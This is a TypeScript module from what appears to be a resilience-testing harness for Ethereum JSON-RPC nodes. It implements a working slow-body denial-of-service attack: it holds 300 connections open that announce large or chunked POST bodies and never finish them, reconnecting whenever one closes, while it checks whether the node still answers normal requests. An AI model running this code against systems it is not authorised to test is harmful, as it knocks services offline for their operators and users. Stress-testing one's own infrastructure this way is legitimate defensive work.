import { connect } from 'node:net'
import type { Attack } from '../AttackTarget.ts'
import { request } from '../request.ts'
import { rotate } from '../rotate.ts'

const CONNECTIONS = 300
const HEADS = ['content-length: 5000000', 'transfer-encoding: chunked']

/** Requests that announce as much as a node takes and never become whole, again as often as they are ended; and what others ask meanwhile. */
export const announcedBodies: Attack = async (options) => {
  const { target, signal } = options
  const { hostname, port, pathname } = new URL(target.url)
  const announce = (size: string) => {
    if (signal.aborted) return
    const socket = connect(Number(port), hostname)
    const end = () => socket.destroy()
    signal.addEventListener('abort', end, { once: true })
    // Also what it is answered has to be read for it to end.
    socket.on('error', end).resume()
    socket.once('close', () => {
      signal.removeEventListener('abort', end)
      announce(size)
    })
    socket.write(
      `POST ${pathname} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n${size}\r\n\r\n`,
    )
    socket.write(size.startsWith('content') ? ' '.repeat(1_000) : `3e8\r\n${' '.repeat(1_000)}\r\n`)
  }
  for (let i = 0; i < CONNECTIONS; i++) announce(HEADS[i % HEADS.length] as string)
  await rotate(options, [request('eth_chainId'), request('eth_blockNumber')], 2)
}
